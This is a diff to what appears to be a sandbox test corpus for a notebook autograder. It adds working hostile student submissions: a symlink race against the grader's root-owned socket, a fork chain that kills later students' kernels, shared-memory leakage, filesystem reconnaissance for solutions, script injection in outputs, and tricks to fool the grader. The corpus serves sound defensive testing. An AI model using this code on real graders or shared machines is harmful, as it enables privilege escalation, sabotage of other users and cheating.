@@ -25,7 +25,7 @@ SQUARE = "def square(x):\n    return x * x"
 CUBE = "def cube(x):\n    return x ** 3"
 TESTS = {
     "test_square": (2, "check_close('square(3)', square(3.0), 9.0)", "check_close('square(-2)', square(-2.0), 4.0)"),
-    "test_cube": (3, "check_close('cube(2)', cube(2.0), 8.0)", "check_close('cube(-1)', cube(-1.0), -1.0)"),
+    "test_cube": (3, "check_close('cube(2)', cube(2.0), 8.0)", "check_close('cube of -1', cube(-1.0), -1.0)"),
     "test_data": (1, "assert DATA == '42', 'data.txt not found'", "assert len(DATA) == 2"),
 }
 HIDDEN = ["square(-2)", "cube(-1)", "len(DATA) == 2"]  # hidden test code: never readable by a kernel
@@ -443,3 +443,241 @@ ATTACKS: dict[str, dict] = {
     "wrong_name": {"name": "homework.ipynb", "expect": {"status": "ungradable", "reason": "wrong file name"}},
     "two_notebooks": {"extra": f"{TOPIC}-Copy1.ipynb", "expect": {"status": "ungradable", "reason": "2 notebooks"}},
 }
+
+# -- issue 18: a hostile class graded without harm --------------------------------------------------
+# Critical: the judge bound its socket and chmod'ed it, as root, in a folder the student owned; a symlink
+# swapped in between made a root-only file world-writable. The kernel now finds the socket's folder on
+# its call stack and tries to swap the socket for a link to @TARGET@ (root's, mode 600, outside its box),
+# once deterministically and then from a thread racing every later test cell.
+SOCKET_SWAP = """
+import inspect, os, threading, time, glob
+TARGET = '@TARGET@'
+def _swap(path):
+    try:
+        os.rename(path, path + '.moved')
+        os.symlink(TARGET, path)
+        return 'done'
+    except OSError as exc:
+        return 'refused'
+def _race():
+    end = time.time() + 20
+    while time.time() < end:
+        for d in set(RACE_DIRS):
+            try:
+                for n in os.listdir(d):
+                    if n.endswith('.sock'):
+                        _swap(os.path.join(d, n))
+            except OSError:
+                pass
+RACE_DIRS = [os.path.expanduser('~/.local/share/jupyter/runtime')]
+threading.Thread(target=_race, daemon=True).start()
+def cube(x):
+    for f in inspect.stack():
+        path = f.frame.f_locals.get('path')
+        if isinstance(path, str) and path.endswith('.sock'):
+            RACE_DIRS.append(os.path.dirname(path))
+            print('SWAP', _swap(path))
+    return x ** 3
+"""
+# High: a chain of processes that changes pid every few ms, leaves the session and outlives the
+# submission, then kills every later kernel it can see (a later student of the same sandbox user).
+# Graded first (its name sorts first): every later entry of the corpus is its victim.
+PID_CHAIN = (
+    """
+import os, time, signal
+def _chain():
+    if os.fork():
+        return
+    os.setsid()
+    start = time.time()
+    mine = set()
+    for pid in os.listdir('/proc'):  # the kernels there already (its own): spared
+        try:
+            if pid.isdigit() and b'ipykernel' in open(f'/proc/{pid}/cmdline', 'rb').read():
+                mine.add(pid)
+        except OSError:
+            pass
+    while time.time() - start < 90:
+        if os.fork():
+            os._exit(0)  # a new pid every few ms
+        for pid in os.listdir('/proc'):
+            try:
+                if pid.isdigit() and int(pid) != os.getpid():
+                    cmd = open(f'/proc/{pid}/cmdline', 'rb').read()
+                    if b'ipykernel' in cmd and pid not in mine:  # a later student's kernel
+                        os.kill(int(pid), signal.SIGKILL)
+            except OSError:
+                pass
+        time.sleep(0.005)
+    os._exit(0)
+_chain()
+"""
+    + CUBE
+)
+# High (limits on the grader's side): a 64 MB answer; 100 000 display() calls; 50 large images.
+BIG_FRAME = "import numpy as np\ndef cube(x):\n    return np.zeros(8 * 2**20) + x ** 3"
+DISPLAY_FLOOD = CUBE + "\nfrom IPython.display import display\nfor i in range(100_000):\n    display(i)\n"
+BIG_IMAGES = CUBE + (
+    "\nimport os\nfrom IPython.display import Image, display\n"
+    "for i in range(50):\n    display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(2**20), format='png'))\n"
+)
+# Medium: changes the test's own array in place, so that an expectation recomputed from it agrees.
+MUTATES_ARGS = (
+    "import numpy as np\ndef square(x):\n    if isinstance(x, np.ndarray):\n        x[...] = 0\n    return x * x"
+)
+# Medium: right on the visible test, wrong on the hidden one; prints its input many times (a lookup table)
+LEAKY = "def cube(x):\n    print('INPUT', repr(x) * 200)\n    return 8.0 if x == 2.0 else 0.0"
+# Medium: an object whose class is *named* like a tensor, whose detach().cpu().numpy() gives the answer
+FAKE_TENSOR = """
+import numpy as np
+class _N:
+    def __init__(self, v): self.v = v
+    def detach(self): return self
+    def cpu(self): return self
+    def numpy(self): return np.asarray(self.v)
+_N.__name__ = _N.__qualname__ = 'torch.Tensor'
+def cube(x):
+    return _N(x ** 3)  # the right values, computed where no guard looks (autograd, say)
+"""
+# Medium: SysV shared memory left by one student, read by another (no IPC namespace before).
+_SHM = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nKEY = 0x5ca1ab1e\n"
+SHM_WRITER = (
+    _SHM + "sid = libc.shmget(KEY, 4096, 0o1000 | 0o666)\n"
+    "libc.shmat.restype = ctypes.c_void_p\naddr = libc.shmat(sid, None, 0) if sid >= 0 else None\n"
+    "if addr not in (None, ctypes.c_void_p(-1).value):\n    ctypes.memmove(addr, b'SECRET-OF-ONE-STUDENT', 21)\n"
+    "print('SHM WRITTEN', sid >= 0)\n" + CUBE
+)
+SHM_READER = (
+    "import time\ntime.sleep(3)\n" + _SHM + "sid = libc.shmget(KEY, 0, 0)\n"
+    "print('SHM', 'found' if sid >= 0 else 'none')\n"
+    "if sid >= 0:\n    libc.shmctl(sid, 0, None)  # IPC_RMID: leave nothing on the machine\n" + CUBE
+)
+# Medium: what of the machine a kernel sees: other processes (the grader's command lines), the course's
+# solutions and any other clone's instructor notebook anywhere on the filesystem.
+MACHINE_VIEW = (
+    CUBE
+    + """
+import os, sys, time, course
+skip = (sys.prefix, os.path.realpath(sys.base_prefix), os.path.dirname(course.__file__))
+pids = [p for p in os.listdir('/proc') if p.isdigit()]
+grader = []
+for p in pids:
+    try:
+        cmd = open(f'/proc/{p}/cmdline', 'rb').read()
+        if b'autograde' in cmd or b'pytest' in cmd or b'multiprocessing' in cmd:
+            grader.append(p)
+    except OSError:
+        pass
+found = []
+t0 = time.time()
+for top in ['/']:
+    for root, dirs, files in os.walk(top):
+        if time.time() - t0 > 3:
+            break
+        if root.startswith(('/proc', '/sys', '/usr', '/dev') + skip):
+            dirs[:] = []
+            continue
+        for n in dirs + files:
+            if n in ('source', '.git', 'gradebook.db') or n.endswith('.ipynb'):
+                found.append(os.path.join(root, n))
+import socket
+print('MACHINE', len(pids) < 10, grader, found[:5], socket.gethostname())
+"""
+)
+SCRIPT_OUTPUT = (
+    "from IPython.display import HTML, Javascript, display\n"
+    "display(HTML('<script>window.PWNED = 1</script><div class=\"banner\">ALL TESTS PASSED</div>'))\n"
+    "display(Javascript('window.PWNED = 2'))\n" + CUBE
+)
+
+
+def _markdown_script(nb):
+    nb["cells"].append(
+        {"cell_type": "markdown", "metadata": {}, "source": "My answer <script>window.PWNED = 3</script><b>bold</b>"}
+    )
+
+
+COMPLEX = "def cube(x):\n    return complex(x ** 3, 1.0)"
+MARKERS = "def cube(x):\n    ### BEGIN HIDDEN TESTS\n    ### END HIDDEN TESTS\n    return x ** 3"
+# A correct answer that computes for 3 s of CPU (under the 5 s per-cell limit): graded the same with four
+# CPU hogs on the machine (tests/test_sandbox.py::test_busy_machine_grades_the_same).
+BUSY = "import time\n_t = time.process_time()\nwhile time.process_time() - _t < 3.0:\n    pass\n" + CUBE
+
+ATTACKS.update(
+    {
+        "aa_pid_chain": {"answers": {"cube": PID_CHAIN}, "expect": {"status": "graded", "scores": FULL}},
+        "socket_swap": {
+            "answers": {"cube": SOCKET_SWAP},
+            "expect": {"status": "graded", "scores": FULL, "output": ["SWAP refused", "!SWAP done"]},
+        },
+        "big_frame": {"answers": {"cube": BIG_FRAME}, "expect": {"status": "graded", "scores": WRONG}},
+        "display_flood": {
+            "answers": {"cube": DISPLAY_FLOOD},
+            "expect": {"status": "graded", "scores": FULL, "output": ["dropped by the grader"]},
+        },
+        "big_images": {
+            "answers": {"cube": BIG_IMAGES},
+            "expect": {"status": "graded", "scores": FULL, "output": ["dropped by the grader"]},
+        },
+        "mutates_test_arrays": {
+            "answers": {"square": MUTATES_ARGS},
+            "expect": {
+                "status": "graded",
+                "scores": {"test_square": 0, "test_cube": 3, "test_data": 1},
+                "output": ["in place"],
+            },
+        },
+        "leaks_expected": {
+            "answers": {"cube": LEAKY},
+            "expect": {
+                "status": "graded",
+                "scores": WRONG,
+                "output": ["values hidden in a hidden test", "!expected -1", "hidden tests show only the start"],
+            },
+        },
+        "fake_tensor": {
+            "answers": {"cube": FAKE_TENSOR},
+            "expect": {"status": "graded", "scores": WRONG, "output": ["torch.Tensor (an object of your code)"]},
+        },
+        "ipc_1_writer": {
+            "answers": {"cube": SHM_WRITER},
+            "expect": {"status": "graded", "scores": FULL, "output": ["SHM WRITTEN True"]},
+        },
+        "ipc_2_reader": {
+            "answers": {"cube": SHM_READER},
+            "expect": {"status": "graded", "scores": FULL, "output": ["SHM none"]},
+        },
+        "machine_view": {
+            "answers": {"cube": MACHINE_VIEW},
+            "expect": {"status": "graded", "scores": FULL, "output": ["MACHINE True [] [] sandbox"]},
+        },
+        "script_in_outputs": {
+            "answers": {"cube": SCRIPT_OUTPUT},
+            "edit": _markdown_script,
+            "expect": {"status": "graded", "scores": FULL, "output": ["!window.PWNED", "!ALL TESTS PASSED"]},
+        },
+        "complex_answer": {"answers": {"cube": COMPLEX}, "expect": {"status": "graded", "scores": WRONG}},
+        "hidden_markers_in_answer": {"answers": {"cube": MARKERS}, "expect": {"status": "graded", "scores": FULL}},
+        "busy_1": {"answers": {"cube": BUSY}, "expect": {"status": "graded", "scores": FULL}},
+        "link_to_source": {
+            "links": {"notes.ipynb.txt": "@REPO@/source/00_sandbox/00_sandbox.ipynb"},
+            "expect": {"status": "ungradable", "reason": "not gradable: link"},
+        },
+        "link_to_root_file": {
+            "links": {"data.txt": "@TARGET@"},
+            "expect": {"status": "ungradable", "reason": "not gradable: link"},
+        },
+        "fifo_in_handin": {"fifo": "notes.txt", "expect": {"status": "ungradable", "reason": "not gradable: link"}},
+        "extra_files": {
+            "files": {"notes.txt": b"my own notes", "helper.py": b"X = 1\n"},
+            "expect": {"status": "graded", "scores": FULL},
+        },
+    }
+)
+# the hidden test of test_square also checks arrays: an expectation computed from the test's own array
+TESTS["test_square"] = (
+    2,
+    "check_close('square(3)', square(3.0), 9.0)",
+    "check_close('square of a negative number', square(-2.0), 4.0)\nx_h = np.array([1.0, -2.0, 3.0])\n"
+    "check_close('square of an array', square(x_h), x_h ** 2)",
+)
